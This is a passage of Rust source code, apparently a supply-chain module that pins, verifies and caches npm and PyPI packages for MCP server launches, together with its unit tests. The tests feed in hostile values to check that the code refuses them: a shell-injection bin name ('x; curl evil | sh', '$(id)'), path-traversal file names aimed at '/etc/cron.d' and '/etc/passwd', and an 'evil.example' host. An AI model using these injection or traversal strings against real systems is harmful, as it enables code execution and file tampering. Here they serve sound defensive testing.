    }
    out.extend(line.iter().cloned());
    out
}

/// Puts `kept` in place of `package` on `line` as a whole argument; false
/// when it is written where a file cannot go (in a comma list, after `--`,
/// or positional with no known command). Only its first occurrence is the
/// package: a later one is an argument of the server's own.
fn hand_file(line: &mut Vec<String>, package: &Package, kept: &Kept) -> bool {
    let value = |a: &str| -> Option<String> {
        a.split_once('=').filter(|(f, _)| f.starts_with('-')).map(|(_, v)| v.to_string())
    };
    let in_list = |a: &String| {
        let v = value(a).unwrap_or_else(|| a.clone());
        v.contains(',') && v.split(',').any(|item| item.trim() == package.written)
    };
    let is_value = |a: &String| value(a).is_some_and(|v| v == package.written);
    let Some(at) = line.iter().skip(1).position(|a| *a == package.written || is_value(a) || in_list(a)).map(|i| i + 1)
    else {
        return false;
    };
    if in_list(&line[at]) || line[1..at].iter().any(|a| a == "--") {
        return false;
    }
    let file = kept.path.display().to_string();
    let with = match line[at].split_once('=') {
        Some((flag, _)) if line[at] != package.written => vec![flag.to_string(), file],
        _ => match (package.via.as_str(), &kept.command) {
            ("uvx" | "uv tool run", Some(command)) => vec!["--from".into(), file, command.clone()],
            ("npx", Some(command)) => vec!["-p".into(), file, command.clone()],
            ("uvx" | "uv tool run" | "npx", None) => return false,
            _ => vec![file],
        },
    };
    line.splice(at..=at, with);
    true
}

/// A digest as a directory name: an SRI string's first hash (a string may
/// list several, each with `?options`), its base64 made URL-safe
/// (`sha512-ab+/=` → `sha512-ab-_`). The file is checked against the whole
/// string; one hash names it.
fn digest_key(digest: &str) -> String {
    let first = digest.split_whitespace().next().unwrap_or_default();
    let hash = first.split('?').next().unwrap_or_default();
    hash.trim_end_matches('=').replace('+', "-").replace('/', "_")
}

/// Where the checked file `filename` of `registry` with digest `key` is
/// kept under `dir`; refused when a registry document names a file or
/// digest that is not a plain name (`../x`), so that it can never point
/// outside `dir`.
fn kept_path(dir: &Path, registry: &str, key: &str, filename: &str) -> Result<PathBuf, SupplyError> {
    let plain_file = plain_file_name(filename);
    let plain_key =
        !key.is_empty() && key.len() <= 200 && key.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'));
    if !plain_file || !plain_key {
        return Err(SupplyError::Refused(format!(
            "the registry names a file {filename:?} with digest {key:?}, which is not a plain file name and digest; refusing it"
        )));
    }
    Ok(dir.join(registry).join(key).join(filename))
}

/// What a Sigstore check of `shown` (as status names it) came to, for
/// npm's provenance and PyPI's attestations alike: verified (said in
/// `verified`, `None`); one this host cannot check (`Some` of why not,
/// `subject not checked: …`, which `require_provenance` decides on); or
/// anything else, an attestation that does not vouch for the file, which
/// refuses the start with `refused`'s message.
fn judged(
    checked: Result<sigstore::Provenance, sigstore::SigstoreError>,
    shown: &str,
    subject: &str,
    refused: impl FnOnce(sigstore::SigstoreError) -> String,
    pinned: &mut Pinned,
) -> Result<Option<String>, SupplyError> {
    match checked {
        Ok(p) => {
            let from = p.source.map(|src| format!(" from {src}")).unwrap_or_default();
            pinned.verified.push(format!("{shown}{from} (Sigstore, Rekor entry {})", p.log_index));
            Ok(None)
        }
        Err(sigstore::SigstoreError::Unsupported(why)) => Ok(Some(format!("{subject} not checked: {why}"))),
        Err(e) => Err(SupplyError::Refused(refused(e))),
    }
}

/// Bytes as lowercase hex (digests as registries and Sigstore write them).
pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Hex text as bytes (`None` unless it is hex digits, in pairs).
pub(crate) fn hex_decode(s: &str) -> Option<Vec<u8>> {
    let s = s.trim();
    if !s.len().is_multiple_of(2) {
        return None;
    }
    (0..s.len()).step_by(2).map(|i| s.get(i..i + 2).and_then(|pair| u8::from_str_radix(pair, 16).ok())).collect()
}

/// Whether a pod can download `url` as the pod's spec shows it: `http` or
/// `https`, no credentials in it (which the spec would show).
fn fetchable_url(url: &str) -> bool {
    url::Url::parse(url)
        .is_ok_and(|u| matches!(u.scheme(), "http" | "https") && u.username().is_empty() && u.password().is_none())
}

/// Whether a registry's file name is a plain name (no path, not hidden).
fn plain_file_name(filename: &str) -> bool {
    !filename.is_empty()
        && !filename.starts_with('.')
        && filename.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '+' | '!'))
}

/// Writes a checked file where its installer will read it: whole or not at all.
fn keep(path: &Path, bytes: &[u8]) -> Result<(), SupplyError> {
    let failed = |e: std::io::Error| {
        SupplyError::Unreachable(format!(
            "cannot keep the checked file at {}: {e}; make server.state_dir writable",
            path.display()
        ))
    };
    let dir = path.parent().ok_or_else(|| failed(std::io::Error::other("no directory")))?;
    std::fs::create_dir_all(dir).map_err(failed)?;
    // Unique per write: two starts of one package keep it at once.
    static WRITES: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
    let n = WRITES.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let partial = dir.join(format!(".partial-{}-{n}", std::process::id()));
    let written = std::fs::write(&partial, bytes).and_then(|()| std::fs::rename(&partial, path));
    if written.is_err() {
        let _ = std::fs::remove_file(&partial);
    }
    written.map_err(failed)
}

/// Whether `url` is on the registry at `base` (same scheme, host and
/// port): only there does a registry token go, never to a host a
/// document names.
fn same_origin(url: &str, base: &str) -> bool {
    match (url::Url::parse(url), url::Url::parse(base)) {
        (Ok(a), Ok(b)) => a.origin() == b.origin(),
        _ => false,
    }
}

fn short(integrity: &str) -> String {
    integrity.chars().take(20).collect::<String>() + "…"
}

/// Replaces, in every command line of `spec`, each package as written with
/// its pinned form: a whole argument, an `--option=` value, or one item of
/// a comma list (`uvx --with a,b`). Only the first occurrence in each line
/// is replaced: options and the package come before the server's own
/// arguments, which are never touched. Pure.
pub fn rewrite(spec: &mut LaunchSpec, swaps: &[(String, String)]) {
    let lines =
        spec.container.iter_mut().map(|c| &mut c.command).chain(spec.process.iter_mut().map(|p| &mut p.command));
    for line in lines {
        rewrite_line(line, swaps);
    }
}

/// [`rewrite`] of one command line.
fn rewrite_line(line: &mut [String], swaps: &[(String, String)]) {
    let mut left: Vec<(&str, &str)> = swaps.iter().map(|(f, t)| (f.as_str(), t.as_str())).collect();
    let mut take = |item: &str| -> Option<String> {
        let at = left.iter().position(|(from, _)| *from == item)?;
        Some(left.remove(at).1.to_string())
    };
    // The program itself is never a package.
    for arg in line.iter_mut().skip(1) {
        if let Some(to) = take(arg) {
            *arg = to;
        } else if let Some((flag, value)) = arg.split_once('=').filter(|(f, _)| f.starts_with("--")) {
            if let Some(to) = take(value) {
                *arg = format!("{flag}={to}");
            }
        } else if arg.contains(',') && !arg.starts_with('-') {
            let items: Vec<String> = arg.split(',').map(|i| take(i.trim()).unwrap_or_else(|| i.to_string())).collect();
            *arg = items.join(",");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::test_spec;

    /// `name` at `version` as a test pins it: nothing checked, no file.
    fn pinned(registry: &str, name: &str, version: &str) -> Pinned {
        Pinned {
            registry: registry.into(),
            name: name.into(),
            requested: "latest".into(),
            version: version.into(),
            verified: Vec::new(),
            unverified: Vec::new(),
            file: None,
            fetch: None,
        }
    }

    #[test]
    fn a_sweep_removes_kept_files_unused_for_longer_than_kept_and_never_one_in_use() {
        let dir = tempfile::tempdir().unwrap();
        let settings = SupplySettings {
            npm_registry: "http://127.0.0.1:9".into(),
            pypi_index: "http://127.0.0.1:9".into(),
            npm_keys: None,
            npm_token: None,
            pypi_token: None,
            require_signatures: false,
            require_provenance: false,
            sigstore_root: sigstore::TrustedRoot::public_good(),
            download: true,
            cache: Duration::from_secs(300),
            files: Some(dir.path().to_path_buf()),
            pods: false,
        };
        let supply = Supply::new(settings, std::sync::Arc::new(crate::metrics::Metrics::new())).unwrap();
        let kept = |registry: &str, key: &str, file: &str| {
            let path = kept_path(dir.path(), registry, key, file).unwrap();
            keep(&path, file.as_bytes()).unwrap();
            let then = std::time::SystemTime::now() - Duration::from_secs(40 * 86_400);
            std::fs::File::open(&path).unwrap().set_modified(then).unwrap();
            path
        };
        let unused = kept("npm", "sha512-old", "x-1.0.0.tgz");
        let running = kept("pypi", "aaaa", "t-1-py3-none-any.whl");
        let started = kept("npm", "sha512-new", "x-2.0.0.tgz");
        // A start reuses `started` (read, checked, marked used) ...
        assert!(supply.reuse(&started, |_| Ok(())).is_some());
        // ... and a running server names `running`.
        let swept = supply.sweep(&HashSet::from([running.clone()]), Duration::from_secs(30 * 86_400));
        assert_eq!(swept.entries, 1);
        assert_eq!(swept.bytes, "x-1.0.0.tgz".len() as u64);
        assert!(!unused.exists() && !unused.parent().unwrap().exists(), "the file and its emptied directory");
        assert!(running.exists() && started.exists());
        // A file that no longer passes its check is not reused.
        assert!(supply.reuse(&running, |_| Err("changed".into())).is_none());
    }

    #[test]
    fn an_adopted_server_runs_its_recorded_versions_without_asking_a_registry() {
        let mut spec = test_spec("uvx --with httpx mcp-server-time --local-timezone UTC", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let pins = BTreeMap::from([
            ("mcp-server-time".to_string(), "2026.10.19".to_string()),
            ("httpx".to_string(), "0.28.1".to_string()),
        ]);
        let adopted = Supply::adopt(&packages, &pins, &mut spec).expect("every package recorded");
        let versions: Vec<String> = adopted.iter().map(Pinned::id).collect();
        assert_eq!(versions, ["mcp-server-time==2026.10.19", "httpx==0.28.1"]);
        let line = &spec.process.as_ref().unwrap().command;
        assert_eq!(line[1..], ["--with", "httpx==0.28.1", "mcp-server-time@2026.10.19", "--local-timezone", "UTC"]);
        let mut older = test_spec("uvx mcp-server-time", None, &[]);
        let packages = crate::policy::what_runs(&older).unwrap().packages;
        assert!(Supply::adopt(&packages, &BTreeMap::new(), &mut older).is_none(), "no record: verify again");
        assert_eq!(older.process.unwrap().command, ["uvx", "mcp-server-time"], "nothing changed");
    }

    #[test]
    fn each_launcher_is_told_the_version_in_its_own_syntax() {
        let pinned = |line: &str, name: &str, version: &str| -> String {
            let packages = crate::policy::what_runs(&test_spec(line, None, &[])).unwrap().packages;
            pin_text(packages.iter().find(|p| p.name == name).unwrap(), version)
        };
        assert_eq!(pinned("uvx mcp-server-time", "mcp-server-time", "2026.10.19"), "mcp-server-time@2026.10.19");
        assert_eq!(pinned("uv tool run black[d]>=24", "black", "24.1"), "black[d]@24.1");
        assert_eq!(pinned("uvx --from mcp-server-time mcp-server-time", "mcp-server-time", "1"), "mcp-server-time==1");
        assert_eq!(pinned("uvx --with httpx mcp-server-time", "httpx", "0.28.1"), "httpx==0.28.1");
        assert_eq!(pinned("uvx --with mcp_server.Git x", "mcp-server-git", "1"), "mcp_server.Git==1", "as written");
        assert_eq!(pinned("pipx run pycowsay", "pycowsay", "0.0.0.2"), "pycowsay==0.0.0.2", "pipx has no `@` form");
        assert_eq!(pinned("npx -y @scope/x@^1", "@scope/x", "1.4.2"), "@scope/x@1.4.2");
    }

    #[test]
    fn uv_installs_the_kept_file_itself_and_a_pod_keeps_the_version() {
        let mut spec = test_spec(
            "uvx --with httpx mcp-server-time --tz mcp-server-time",
            Some(("ghcr.io/astral-sh/uv:python3.12", "uvx --with httpx mcp-server-time --tz mcp-server-time")),
            &[],
        );
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let pin = |name: &str, version: &str, file: Option<&str>| Pinned {
            file: file.map(|f| Kept { path: PathBuf::from(f), command: Some(name.to_string()) }),
            ..pinned("PyPI", name, version)
        };
        // In command-line order: the positional package, then `--with`.
        let pinned = [
            pin(
                "mcp-server-time",
                "2026.10.19",
                Some("/state/packages/pypi/ab/mcp_server_time-2026.10.19-py3-none-any.whl"),
            ),
            pin("httpx", "0.28.1", Some("/state/packages/pypi/cd/httpx-0.28.1-py3-none-any.whl")),
        ];
        assert_eq!(rewrite_to(&mut spec, &packages, &pinned).local, [true, true]);
        assert_eq!(
            spec.process.as_ref().unwrap().command[1..],
            [
                "--with",
                "/state/packages/pypi/cd/httpx-0.28.1-py3-none-any.whl",
                "--from",
                "/state/packages/pypi/ab/mcp_server_time-2026.10.19-py3-none-any.whl",
                "mcp-server-time",
                "--tz",
                "mcp-server-time"
            ],
            "the server's own arguments stay"
        );
        assert_eq!(
            spec.container.as_ref().unwrap().command[1..],
            ["--with", "httpx==0.28.1", "mcp-server-time@2026.10.19", "--tz", "mcp-server-time"],
            "a pod cannot read this host's files"
        );
    }

    #[test]
    fn an_npm_pod_is_handed_the_tarball_it_fetches_and_checks_again_by_sh_and_npm_pack() {
        let line = "npx -y @modelcontextprotocol/server-filesystem /data";
        let mut spec = test_spec(line, Some(("node:22-slim", line)), &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let fetch = PodFetch {
            kind: PodFile::Tarball,
            url: "https://registry.example/@modelcontextprotocol/server-filesystem/-/server-filesystem-1.0.0.tgz"
                .into(),
            digest: "cd".repeat(64),
            filename: "server-filesystem-1.0.0.tgz".into(),
            command: "mcp-server-filesystem".into(),
        };
        let pinned = [Pinned {
            fetch: Some(fetch.clone()),
            ..pinned("npm", "@modelcontextprotocol/server-filesystem", "1.0.0")
        }];
        assert_eq!(rewrite_to(&mut spec, &packages, &pinned).pod, [true]);
        let pod = &spec.container.as_ref().unwrap().command;
        assert_eq!(pod[..4], ["sh", "-c", NPM_POD_FETCH, "mcpod-fetch"]);
        assert_eq!(
            pod[4..],
            [
                "1",
                fetch.url.as_str(),
                &fetch.digest,
                "server-filesystem-1.0.0.tgz",
                "npx",
                "-y",
                "-p",
                "{mcpod-file-0}",
                "mcp-server-filesystem",
                "/data"
            ]
        );
        // The kind of the files decides the wrapper: sh for tarballs, uv's
        // Python for wheels.
        let wheel = PodFetch { kind: PodFile::Wheel, ..fetch.clone() };
        assert_eq!(pod_fetch_line(&[&fetch], &["x".into()])[..3], ["sh", "-c", NPM_POD_FETCH]);
        assert_eq!(pod_fetch_line(&[&wheel], &["x".into()])[..2], ["uv", "run"]);
    }

    #[test]
    fn a_pod_is_handed_the_file_it_fetches_and_checks_again_and_the_rest_keeps_its_version() {
        let line = "uvx --with httpx mcp-server-time --tz mcp-server-time";
        let mut spec = test_spec(line, Some(("ghcr.io/astral-sh/uv:python3.12", line)), &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let wheel = "mcp_server_time-2026.10.19-py3-none-any.whl";
        let fetch = PodFetch {
            kind: PodFile::Wheel,
            url: format!("https://files.example/{wheel}"),
            digest: "ab".repeat(32),
            filename: wheel.into(),
            command: "mcp-server-time".into(),
        };
        let pin =
            |name: &str, version: &str, fetch: Option<PodFetch>| Pinned { fetch, ..pinned("PyPI", name, version) };
        let pinned = [pin("mcp-server-time", "2026.10.19", Some(fetch.clone())), pin("httpx", "0.28.1", None)];
        let handed = rewrite_to(&mut spec, &packages, &pinned);
        assert_eq!((handed.local, handed.pod), (vec![false, false], vec![true, false]));
        let pod = &spec.container.as_ref().unwrap().command;
        assert_eq!(pod[..7], ["uv", "run", "--no-project", "--quiet", "python", "-c", POD_FETCH]);
        assert_eq!(
            pod[7..],
            [
                "1",
                fetch.url.as_str(),
                &fetch.digest,
                wheel,
                "uvx",
                "--with",
                "httpx==0.28.1",
                "--from",
                "{mcpod-file-0}",
                "mcp-server-time",
                "--tz",
                "mcp-server-time"
            ],
            "the file by its placeholder, the rest by version, the server's own arguments as they were"
        );
        assert_eq!(
            spec.process.unwrap().command[1..],
            ["--with", "httpx==0.28.1", "mcp-server-time@2026.10.19", "--tz", "mcp-server-time"],
            "a local line is handed kept files only"
        );

        // Two files: each its placeholder, in the order they are fetched.
        let mut spec = test_spec(line, Some(("ghcr.io/astral-sh/uv:python3.12", line)), &[]);
        let httpx = PodFetch {
            url: "https://files.example/httpx-0.28.1-py3-none-any.whl".into(),
            filename: "httpx-0.28.1-py3-none-any.whl".into(),
            command: "httpx".into(),
            ..fetch.clone()
        };
        let both =
            [pin("mcp-server-time", "2026.10.19", Some(fetch.clone())), pin("httpx", "0.28.1", Some(httpx.clone()))];
        assert_eq!(rewrite_to(&mut spec, &packages, &both).pod, [true, true]);
        let pod = &spec.container.as_ref().unwrap().command;
        assert_eq!(pod[7], "2");
        assert_eq!([&pod[8], &pod[11]], [&fetch.url, &httpx.url]);
        assert_eq!(
            pod[14..],
            [
                "uvx",
                "--with",
                "{mcpod-file-1}",
                "--from",
                "{mcpod-file-0}",
                "mcp-server-time",
                "--tz",
                "mcp-server-time"
            ]
        );
    }

    #[test]
    fn npx_is_handed_the_kept_tarball_and_a_file_never_goes_where_it_cannot_be_read() {
        let kept =
            |path: &str, command: Option<&str>| Kept { path: PathBuf::from(path), command: command.map(String::from) };
        let pin = |name: &str, version: &str, file: Option<Kept>| Pinned { file, ..pinned("npm", name, version) };
        let mut spec = test_spec("npx -y @scope/x@^1 --arg @scope/x@^1", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let handed =
            rewrite_to(&mut spec, &packages, &[pin("@scope/x", "1.4.2", Some(kept("/k/x-1.4.2.tgz", Some("x-cli"))))])
                .local;
        assert_eq!(handed, [true]);
        assert_eq!(spec.process.unwrap().command[1..], ["-y", "-p", "/k/x-1.4.2.tgz", "x-cli", "--arg", "@scope/x@^1"]);

        // npm exec could not choose a command: the version, not the file.
        let mut spec = test_spec("npx -y @scope/x@^1", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let handed = rewrite_to(&mut spec, &packages, &[pin("@scope/x", "1.4.2", Some(kept("/k/x.tgz", None)))]).local;
        assert_eq!(handed, [false]);
        assert_eq!(spec.process.unwrap().command[1..], ["-y", "@scope/x@1.4.2"]);

        // `--package=X` becomes two arguments, so that the path is one.
        let mut spec = test_spec("npx --package=@scope/x@^1 x-cli", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let handed = rewrite_to(&mut spec, &packages, &[pin("@scope/x", "1.4.2", Some(kept("/k/x.tgz", None)))]).local;
        assert_eq!(handed, [true]);
        assert_eq!(spec.process.unwrap().command[1..], ["--package", "/k/x.tgz", "x-cli"]);

        // In uv's comma list a path would not be an argument of its own.
        let mut spec = test_spec("uvx --with httpx,anyio mcp-server-time", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let pypi = |name: &str, file: Option<Kept>| Pinned { registry: "PyPI".into(), ..pin(name, "1", file) };
        let pinned = [
            pypi("mcp-server-time", None),
            pypi("httpx", None),
            pypi("anyio", Some(kept("/k/anyio-1-py3-none-any.whl", Some("anyio")))),
        ];
        assert_eq!(rewrite_to(&mut spec, &packages, &pinned).local, [false, false, false]);
        assert_eq!(spec.process.unwrap().command[1..], ["--with", "httpx==1,anyio==1", "mcp-server-time@1"]);

        // ... and the server's own argument of the same name is not it.
        let mut spec = test_spec("uvx --with httpx,anyio mcp-server-time --backend anyio", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        assert_eq!(rewrite_to(&mut spec, &packages, &pinned).local, [false, false, false]);
        assert_eq!(
            spec.process.unwrap().command[1..],
            ["--with", "httpx==1,anyio==1", "mcp-server-time@1", "--backend", "anyio"]
        );

        // After `--`, uv and npm exec read no more options: `--from` would be the command.
        let mut spec = test_spec("uvx -- mcp-server-time", None, &[]);
        let packages = crate::policy::what_runs(&spec).unwrap().packages;
        let pinned = [pypi("mcp-server-time", Some(kept("/k/t-1-py3-none-any.whl", Some("mcp-server-time"))))];
        assert_eq!(rewrite_to(&mut spec, &packages, &pinned).local, [false]);
        assert_eq!(spec.process.unwrap().command[1..], ["--", "mcp-server-time@1"]);
    }

    #[test]
    fn npx_runs_the_command_npm_exec_would_choose() {
        let resolved = |bin: serde_json::Value| {
            let doc = serde_json::json!({"name": "@scope/tool", "dist-tags": {"latest": "1.0.0"},
                "versions": {"1.0.0": {"name": "@scope/tool", "version": "1.0.0", "bin": bin,
                    "dist": {"tarball": "https://r/t.tgz", "integrity": "sha512-AAAA"}}}});
            npm::resolve(&doc, "latest").unwrap().command()
        };
        assert_eq!(resolved(serde_json::json!("cli.js")).as_deref(), Some("tool"), "a string is the unscoped name");
        assert_eq!(resolved(serde_json::json!({"other": "cli.js"})).as_deref(), Some("other"), "the only one");
        assert_eq!(
            resolved(serde_json::json!({"a": "cli.js", "b": "cli.js"})).as_deref(),
            Some("a"),
            "aliases of one file"
        );
        assert_eq!(
            resolved(serde_json::json!({"a": "a.js", "tool": "t.js"})).as_deref(),
            Some("tool"),
            "the package's name"
        );
        assert_eq!(resolved(serde_json::json!({"a": "a.js", "b": "b.js"})), None, "npm exec cannot choose");
        assert_eq!(resolved(serde_json::Value::Null), None, "no command at all");
        // The document is not signed, and npm exec runs the name through a shell.
        for bad in ["x; curl evil | sh", "--call=sh", "-c", "$(id)", "a b", "../../bin/sh", ""] {
            assert_eq!(resolved(serde_json::json!({ bad: "cli.js" })), None, "{bad:?} is no command name");
        }
    }

    #[test]
    fn a_kept_file_stays_inside_its_directory_whatever_the_registry_names() {
        let dir = Path::new("/state/packages");
        let sha = "a".repeat(64);
        assert_eq!(
            kept_path(dir, "pypi", &sha, "mcp_server_time-1-py3-none-any.whl").unwrap(),
            dir.join("pypi").join(&sha).join("mcp_server_time-1-py3-none-any.whl")
        );
        for bad in ["../../etc/cron.d/x", "/etc/passwd", "..", ".hidden.whl", "a/b.whl", "x\0.whl", ""] {
            assert!(kept_path(dir, "pypi", &sha, bad).is_err(), "{bad:?}");
        }
        for bad in ["../../x", "a/b", "..", "", "sha512-ab+/="] {
            assert!(kept_path(dir, "npm", bad, "x-1.tgz").is_err(), "the digest is a path component too: {bad:?}");
        }
        assert_eq!(digest_key("sha512-ab+/cd=="), "sha512-ab-_cd");
        assert!(kept_path(dir, "npm", &digest_key("sha512-ab+/cd=="), "x-1.0.0+build.tgz").is_ok());
        // An SRI string may list several hashes, with options: the first names the file.
        assert_eq!(digest_key("sha512-ab+/cd==?opt sha384-xy"), "sha512-ab-_cd");
        assert!(kept_path(dir, "npm", &digest_key(" sha512-ab== sha256-cd="), "x-1.tgz").is_ok());
    }

    #[test]
    fn a_registry_token_goes_only_to_the_registry_itself() {
        let base = "https://npm.internal:8443/";
        assert!(same_origin("https://npm.internal:8443/x/-/x-1.0.0.tgz", base));
        assert!(!same_origin("https://evil.example/x-1.0.0.tgz", base), "a document may name any host");
        assert!(!same_origin("http://npm.internal:8443/x.tgz", base), "nor downgrade the scheme");
        assert!(!same_origin("https://npm.internal/x.tgz", base), "nor change the port");
        assert!(!same_origin("../x.tgz", base));
    }

    #[test]
    fn the_launch_runs_exactly_the_pinned_versions_and_the_servers_own_arguments_stay() {
        let mut s = test_spec(
            "uvx --with httpx,mcp-server-git --from=mcp-server-time mcp-server-time --tz httpx",
            Some(("node:22", "npx -y @scope/x@^1 --arg @scope/x@^1")),
            &[],
        );
        let swaps = [
            ("httpx".to_string(), "httpx==0.28.1".to_string()),
            ("mcp-server-git".to_string(), "mcp-server-git==2025.1".to_string()),
            ("mcp-server-time".to_string(), "mcp-server-time==2026.10.19".to_string()),
            ("@scope/x@^1".to_string(), "@scope/x@1.4.2".to_string()),
        ];
        rewrite(&mut s, &swaps);
        let process = &s.process.as_ref().unwrap().command;
        assert_eq!(
            process[1..],
            [
                "--with",
                "httpx==0.28.1,mcp-server-git==2025.1",
                "--from=mcp-server-time==2026.10.19",
                "mcp-server-time",
                "--tz",
                "httpx"
            ],
            "the command name after --from and the server's `httpx` argument stay"
        );
        assert_eq!(process[0], "uvx", "the program is never rewritten");
        let container = &s.container.as_ref().unwrap().command;
        assert_eq!(container[1..], ["-y", "@scope/x@1.4.2", "--arg", "@scope/x@^1"]);
    }
}
